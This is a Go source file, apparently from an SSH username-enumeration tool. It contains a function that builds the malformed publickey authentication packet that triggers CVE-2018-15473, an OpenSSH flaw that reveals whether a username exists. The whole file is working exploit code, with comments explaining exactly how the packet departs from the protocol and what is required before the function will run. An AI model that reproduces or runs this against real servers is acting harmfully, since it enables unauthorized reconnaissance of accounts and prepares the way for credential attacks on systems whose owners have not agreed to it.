package enum

import (
	"fmt"

	"github.com/sshenum/sshenum/pkg/wire"
)

// BuildMalformedRequest encodes the CVE-2018-15473 trigger: a
// publickey USERAUTH_REQUEST for username whose has-signature boolean
// is absent from the payload entirely. The result is exactly one byte
// shorter than the conformant encoding of the same request.
//
// sessionID is the identifier derived from the completed key
// exchange. It never appears in the packet (it would only be needed
// to bind a signature, and none is sent), but requiring it here keeps
// the builder from running against a connection that has not finished
// negotiating. An empty sessionID fails with ErrEncoding.
func BuildMalformedRequest(username string, key *EphemeralKey, sessionID []byte) ([]byte, error) {
	if len(sessionID) == 0 {
		return nil, fmt.Errorf("%w: key exchange not completed (no session id)", ErrEncoding)
	}
	if key == nil || len(key.Blob) == 0 {
		return nil, fmt.Errorf("%w: no ephemeral public key", ErrEncoding)
	}

	req := &wire.UserauthRequest{
		Username:     username,
		Service:      wire.ServiceConnection,
		Method:       wire.MethodPublickey,
		Algorithm:    key.Algorithm,
		KeyBlob:      key.Blob,
		HasSignature: false,
	}
	return req.Marshal(wire.OmitSignatureFlag), nil
}
